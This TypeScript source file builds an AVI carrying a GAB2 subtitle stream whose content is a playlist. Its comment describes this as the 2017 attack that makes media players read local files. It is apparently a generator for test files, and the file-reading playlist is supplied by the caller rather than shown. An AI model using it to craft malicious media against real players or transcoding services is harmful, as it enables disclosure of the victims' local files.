// An AVI whose second stream is a "GAB2" subtitle with a playlist as content: the 2017 attack by
// which players read local files. RIFF: a chunk is a type (4 bytes), a size (4, little-endian), its
// content, and a zero byte after odd sizes.

/** Adds the stream and its one chunk to an AVI with one stream. */
export function withGab2Playlist(avi: Buffer, playlist: string): Buffer {
  const text = Buffer.from(playlist);
  const header = Buffer.alloc(17);
  header.write('GAB2\0', 0, 'latin1');
  header.writeUInt16LE(2, 5);
  // No name of the file (length 0), then the type of the content and its length.
  header.writeUInt16LE(4, 11);
  header.writeUInt32LE(text.length, 13);
  const subtitle = chunk('01tx', Buffer.concat([header, text]));
  const stream = list('strl', chunk('strh', streamHeader()), chunk('strf', Buffer.alloc(0)));
  const body = chunksOf(avi.subarray(12)).map(({ type, content }) => {
    const kind = content.toString('latin1', 0, 4);
    if (type === 'LIST' && kind === 'hdrl')
      return chunk('LIST', Buffer.concat([twoStreams(content), stream]));
    if (type === 'LIST' && kind === 'movi')
      return chunk('LIST', Buffer.concat([content.subarray(0, 4), subtitle, content.subarray(4)]));
    // The index no longer fits and is not needed.
    return type === 'idx1' ? Buffer.alloc(0) : chunk(type, content);
  });
  return chunk('RIFF', Buffer.concat([Buffer.from('AVI '), ...body]));
}

function streamHeader(): Buffer {
  const header = Buffer.alloc(56);
  header.write('txts', 0, 'latin1');
  // Scale 1, rate 25, length 1.
  header.writeUInt32LE(1, 20);
  header.writeUInt32LE(25, 24);
  header.writeUInt32LE(1, 32);
  return header;
}

function twoStreams(hdrl: Buffer): Buffer {
  const changed = Buffer.from(hdrl);
  // 'hdrl', then the chunk 'avih', whose seventh word counts the streams.
  changed.writeUInt32LE(2, 4 + 8 + 24);
  return changed;
}

function list(kind: string, ...chunks: Buffer[]): Buffer {
  return chunk('LIST', Buffer.concat([Buffer.from(kind), ...chunks]));
}

function chunk(type: string, content: Buffer): Buffer {
  const header = Buffer.alloc(8);
  header.write(type, 0, 'latin1');
  header.writeUInt32LE(content.length, 4);
  return Buffer.concat([header, content, Buffer.alloc(content.length % 2)]);
}

function chunksOf(bytes: Buffer): { type: string; content: Buffer }[] {
  const chunks: { type: string; content: Buffer }[] = [];
  for (let at = 0; at + 8 <= bytes.length; ) {
    const size = bytes.readUInt32LE(at + 4);
    chunks.push({
      type: bytes.toString('latin1', at, at + 4),
      content: bytes.subarray(at + 8, at + 8 + size),
    });
    at += 8 + size + (size % 2);
  }
  return chunks;
}
